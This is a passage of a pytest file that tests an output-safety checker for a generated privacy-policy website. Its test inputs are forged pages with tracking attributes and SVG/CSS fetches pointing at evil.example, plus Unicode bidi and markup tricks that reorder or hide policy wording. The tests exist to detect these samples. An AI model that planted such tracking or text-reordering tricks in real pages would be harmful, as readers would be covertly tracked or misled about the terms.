    assert read == [True, True] and len(list(kept.iterdir())) == 1  # the page that passed, alone
    monkeypatch.setattr(safety, "_PASSED", {})  # the next command
    assert safety.check_page(clean, file="fr/2024-01-01/index.html", theme_dirs=THEME, kept_in=kept) == []
    assert safety.check_page(clean, file="branch.html", theme_dirs=THEME, text=False, kept_in=kept) == []
    assert read == [True, True]
    assert safety.check_page(unsafe, file="a.html", theme_dirs=THEME, kept_in=kept) != []
    assert safety.check_page(clean.replace("rebuild", "one"), file="b.html", theme_dirs=THEME, kept_in=kept) == []
    monkeypatch.setattr(safety, "_PASSED", {})
    assert safety.check_page(clean, file="c.html", theme_dirs=THEME, kept_in=tmp_path / "elsewhere") == []
    assert read == [True, True, True, True, True]
    assert safety.check_page(clean, file="d.html", theme_dirs=(), kept_in=kept) != []  # its script no theme's
    loose = page('<p id="loose">Judged without its text.</p>', head="")
    assert safety.check_page(loose, file="e.html", theme_dirs=THEME, text=False, kept_in=kept) == []
    monkeypatch.setattr(safety, "_PASSED", {})
    assert safety.check_page(loose, file="e.html", theme_dirs=THEME, text=True, kept_in=kept) == []  # stricter
    monkeypatch.setattr(safety, "_PASSED", {})
    monkeypatch.setattr(findingcache, "checks_digest", lambda: "another checker")
    assert safety.check_page(clean, file="fr/2024-01-01/index.html", theme_dirs=THEME, kept_in=kept) == []
    assert read == [True, True, True, True, True, True, False, True, True]


def test_a_page_that_passed_in_this_process_for_another_repository_is_kept_where_asked(monkeypatch, tmp_path):
    """The same page built for two repositories in one process (the tests, the bench): passed unread the second
    time, it is kept in the second's folder too, for its next command."""
    monkeypatch.setattr(safety, "_PASSED", {})
    clean = page('<p id="twice">Built in two repositories.</p>')
    assert safety.check_page(clean, file="x.html", theme_dirs=THEME, kept_in=tmp_path / "first") == []
    assert safety.check_page(clean, file="x.html", theme_dirs=THEME, text=False, kept_in=tmp_path / "second") == []
    monkeypatch.setattr(safety, "_PASSED", {})
    monkeypatch.setattr(safety, "_check_tree", lambda html, **k: pytest.fail("read again"))
    assert safety.check_page(clean, file="x.html", theme_dirs=THEME, text=False, kept_in=tmp_path / "second") == []


def test_pages_kept_as_passed_are_bounded(monkeypatch):
    monkeypatch.setattr(safety, "_PASSED", {})
    monkeypatch.setattr(safety, "_PASSED_MOST", 2)
    for n in range(4):
        assert safety.check_page(page(f"<p>Page {n}.</p>"), file="x.html", theme_dirs=THEME) == []
    assert len(safety._PASSED) == 2
    assert (safety._rules_key(page("<p>Page 3.</p>"), THEME)[0], True) in safety._PASSED
    assert (safety._rules_key(page("<p>Page 0.</p>"), THEME)[0], True) not in safety._PASSED


@pytest.mark.parametrize("article", [
    '<p>We <bdo dir="rtl">sdrawkcab</bdo> sell.</p>', "<p>We do <s>not</s> sell your data.</p>",
    "<p>We do <strike>not</strike> sell it.</p>", "<p>We do <del>not</del> sell it.</p>",
    "<p>We <ins>always</ins> sell it.</p>", "<details><summary>More</summary><p>We sell your data.</p></details>",
    "<p>We sell <small><small><small>nothing</small></small></small>.</p>", "<p><sup><small>x</small></sup></p>",
    "<p>We do not sell \u202eatad ruoy\u202c.</p>", "<p>We do not sell &#x202D;it.</p>",
    '<p><a href="https://www.cnil.fr/" title="\u202erf.linc.www">the regulator</a></p>',
])
def test_words_drawn_otherwise_than_written_are_found_in_the_policy_text(article):
    """Safety hunt 48: the output check passed text drawn in another order than written (<bdo>, U+202D/U+202E, which
    `policy check` refuses in the source as editorial.bidi, in an attribute's value too: a title reading as another
    address), struck out or underlined as the redline marks a change (<s>, <strike>, <del>, <ins> outside the redline's
    own), folded away behind a title (<details>), or shrunk small inside small (<small>, as <sub> and <sup> are)."""
    assert violations(page(article)), article


def test_the_redlines_own_marks_pass():
    """In a redline, as partials/redline.html writes them (the class alone was the text's to write: safety87)."""
    assert violations(page('<div class="redline"><p>We <del class="redline-del">never</del> <ins class="redline-ins">'
                           'rarely</ins> sell it, <small>in small print</small>.</p></div>')) == []


@pytest.mark.parametrize(("custom_dir", "folder"), [("theme", "theme"), ("site/theme/", "site/theme"),
                                                     (None, "overrides"), ("../elsewhere", "overrides"),
                                                     ("/etc", "overrides")])
def test_the_theme_folder_whose_scripts_a_page_may_hold_is_the_one_mkdocs_yml_names(tmp_path, custom_dir, folder):
    """The site's theme folder is the one its mkdocs.yml names (theme.custom_dir), `overrides` where it names none or
    one outside the project: a site whose folder is `theme/` had its own inline scripts looked for in `overrides/`."""
    theme = f"theme:\n  name: material\n  custom_dir: {custom_dir}\n" if custom_dir else "theme:\n  name: material\n"
    (tmp_path / "mkdocs.yml").write_text(f"site_name: Example\n{theme}", encoding="utf-8")
    assert safety.theme_folder(tmp_path) == folder
    assert safety.installed_theme_dirs(tmp_path)[0] == str(tmp_path / folder)


HEBREW = "(\u05ea\u05dc \u05d0\u05d1\u05d9\u05d1)"  # Tel Aviv, in Hebrew letters


@pytest.mark.parametrize("article", [
    f"<p>Our office {HEBREW} keeps your data \u206790 days, not 30\u2069.</p>",  # shown "days, not 30 90"
    f"<p>Our office {HEBREW} keeps your data <em>\u202b90 days</em>, not 30\u202c.</p>",  # across an element
    f"<ul><li>Our office {HEBREW} keeps it 90\u200f, \u200f30 days.</li></ul>",  # shown "9030 , days"
    f"<p>Name {HEBREW}: &#x2067;&#x2066;never&#x2069; \u2066sold&#x2069;\u2069 is your data.</p>",  # "sold never"
    "<table><tr><td>Kept \u2068\u05d0 90 days, not 30\u2069.</td></tr></table>",
])
def test_left_to_right_words_a_right_to_left_mark_or_isolate_draws_in_another_order_are_found(article):
    """Safety3 hunt: a right-to-left isolate, embedding or mark beside a Hebrew word passed the output check, and
    Chromium drew the Latin words and numbers in it in another order than the checks read them (editorial.bidi refuses
    them in the source; a forged page, or one a template wrote, holds them too)."""
    found = [message for message in violations(page(article)) if "right-to-left mark or isolate" in message]
    assert len(found) == 1, violations(page(article))


def test_right_to_left_words_in_their_isolates_and_marks_pass():
    assert violations(page(f"<p>Office \u2067\u05e8\u05d7\u05d5\u05d1 \u05d4\u05e8\u05e6\u05dc 12\u2069, {HEBREW}\u200f"
                           " answers.</p><ol><li>Name \u2068Acme 12 Beta\u2069.</li></ol>")) == []
    hebrew_page = page("<p>\u05d0 \u206790 days, not 30\u2069.</p>").replace('lang="en"', 'lang="he"')
    assert violations(hebrew_page) == []  # a page written right to left reads them right to left (as editorial.bidi)


@pytest.mark.parametrize("article", ['<p dir="rtl">90 days, not 30, we keep it.</p>',
                                     '<ul><li>Kept <span dir="auto">\u05d0 90 days, not 30</span>.</li></ul>'])
def test_left_to_right_words_an_element_sets_right_to_left_are_found(article):
    """Safety3 hunt: `<p dir="rtl">` (which `policy check` refuses in the source) drew the Latin words of a forged or
    templated page in another order than the checks read them, and the output check passed it."""
    assert any("right to left, in another order" in message for message in violations(page(article))), article


def test_the_themes_right_to_left_elements_with_their_language_pass():
    assert [m for m in violations(page('<div lang="ar" dir="rtl">\u0627\u0644\u0635\u0641\u062d\u0629 Acme 404 '
                                       'Example</div><p dir="ltr">Text.</p>')) if "right to left" in m] == []


def test_a_built_page_is_parsed_once_for_its_text_check_and_its_csp(monkeypatch):
    """The hook's on_post_page reads each page with content_hidden, then with_csp: one parse of the page for both
    (the text's own parse apart), and the CSP the same as from a page parsed anew."""
    html = _PAGE.format(article=_TEXT).replace("</head>", f"{SCOPE}</head>")
    expected = safety.with_csp(html + " ", theme_dirs=THEME).replace("</html> ", "</html>")
    parsed = calls_to(monkeypatch, safety, "LexborHTMLParser")
    assert safety.content_hidden(html, _TEXT) is None
    assert safety.with_csp(html, theme_dirs=THEME) == expected
    assert parsed.count(html) == 1 and "'sha256-" in expected
    other = html.replace("Objet", "Sujet")
    assert safety.with_csp(other, theme_dirs=THEME) == expected.replace("Objet", "Sujet")
    assert parsed.count(other) == 1


@pytest.mark.parametrize("article", [
    _TEXT,
    '<h2 id="s1" class="x">1. Objet</h2><p>Texte.</p>',
    '<h1 id="a" id="b">T</h1><p id="c">x</p>',
    '<h1 id="t"/><p>x</p>',
])
def test_a_text_starting_with_a_heading_of_plain_id_is_found_without_parsing_the_text(monkeypatch, article):
    """content_hidden reads the id of a text's leading heading (Python-Markdown's `<h1 id="…">`) without parsing the
    text: the same verdict as the parse's, on the page as built, moved or hidden."""
    pages = [_PAGE.format(article=article), _PAGE.format(article=f"<div>{article}</div>"),
             _PAGE.replace('<article class="md-content__inner md-typeset">',
                           '<article class="md-content__inner md-typeset" hidden>').format(article=article)]
    parsed = [safety.content_hidden(page, f"<!---->{article}") for page in pages]  # led by a comment: parsed
    texts = calls_to(monkeypatch, safety, "LexborHTMLParser")
    assert [safety.content_hidden(page, article) for page in pages] == parsed
    assert parsed[0] is None and parsed[1] is not None and parsed[2] is not None
    assert not [text for text in texts if text.startswith("<body>")]


@pytest.mark.parametrize("chrome", [
    '<img src="assets/images/favicon.svg" alt="" attributionsrc="https://evil.example/register">',
    '<a href="../" ATTRIBUTIONSRC>Home</a>', '<script src="assets/x.js" attributionsrc></script>',
    '<img src="assets/x.png" alt="" browsingtopics>', '<img src="assets/x.png" alt="" sharedstoragewritable>'])
def test_an_attribute_of_the_browsers_advertising_measurement_is_found_outside_the_text(chrome):
    """Session 39, safety51: a page forged with `attributionsrc` on an image of the site (Chromium's Attribution
    Reporting: a request of the browser's own to the address it names, reporting the reader saw it, which no `src` shows
    and the CSP does not govern), `browsingtopics` or `sharedstoragewritable` in the theme's header passed: only the
    text's attributes were allow-listed. Found anywhere now, in English and French."""
    found = violations(page(chrome=chrome))
    assert [said.key for said in found] == ["output.tracking"], found
    assert found[0].endswith("reports to another address or host what the reader saw or followed: a privacy policy "
                             "site tracks no one")
    assert said_in(found[0], "fr").endswith("ce que le lecteur a vu ou suivi\u00a0: le site d'une politique de "
                                            "confidentialité ne suit personne")


@pytest.mark.parametrize("chrome", [
    '<svg viewBox="0 0 9 9"><rect width="9" height="9" cursor="url(https://evil.example/c.png), auto"/></svg>',
    '<svg viewBox="0 0 9 9"><rect width="9" height="9" fill="url( \'//evil.example/p.svg#g\' )"/></svg>',
    '<svg viewBox="0 0 9 9"><rect width="9" height="9" filter="url(//evil.example/f.svg#f)"/></svg>',
    '<svg viewBox="0 0 9 9"><rect width="9" height="9" mask="\\75 rl(//evil.example/m.svg#m)"/></svg>',
    '<svg><pattern id="p" href="https://evil.example/p.svg#q"/></svg>',
    '<math><mi href="https://evil.example/">Sign in to object</mi></math>'])
def test_an_svg_or_mathml_element_fetching_or_linking_another_site_outside_the_text_is_found(chrome):
    """Session 39, safety51: a page forged with an SVG drawing in the theme's header whose presentation attribute takes
    a URL as CSS does (`cursor="url(…)"`: Chromium fetches the cursor's image from any host; `fill`, `filter`, `mask`:
    Firefox fetches the document), a pattern's template at another site, or a MathML element linking one (Firefox
    follows a MathML `href`), passed: only a `style` attribute was read as CSS, and only SVG's image, use, feImage and
    script elements' `href`."""
    found = violations(page(chrome=chrome))
    assert [said.key for said in found] == ["output.loads"], found


def test_an_svg_drawing_painting_with_its_own_gradient_passes():
    assert violations(page(chrome='<svg viewBox="0 0 9 9"><linearGradient id="g"/><rect width="9" height="9" '
                                  'fill="url(#g)" stroke="url(\'#g\')"/></svg>')) == []


def test_elements_alike_are_each_found_and_those_whose_words_the_rules_read_are_read_each():
    """perf5: an element's rules are kept by its tag and attributes (a history page's rows are alike): each such
    element is still said, in every page, and a style, a script or the at page's data, whose words the rules read,
    is judged by its own words, not by a first one alike that passed."""
    handler = '<img alt="" src="assets/x.png" onerror="x()">'
    for _ in range(2):
        assert violations(page(chrome=handler * 3)).count(violations(page(chrome=handler))[0]) == 3
    plain = '<div hidden class="policy-at-data x">{"earlier": {"url": "../../fr/at/"}}</div>'
    leaving = '<div hidden class="policy-at-data x">{"earlier": {"url": "https://evil.example/"}}</div>'
    assert violations(page(chrome=plain)) == []
    assert any("https://evil.example/" in found for found in violations(page(chrome=plain + leaving)))
    styled = [violations(page(head=f"<style>{css}</style>")) for css in ("", "@import url(https://evil.example/x);")]
    assert not any("loads" in found for found in styled[0]) and any("loads" in found for found in styled[1])
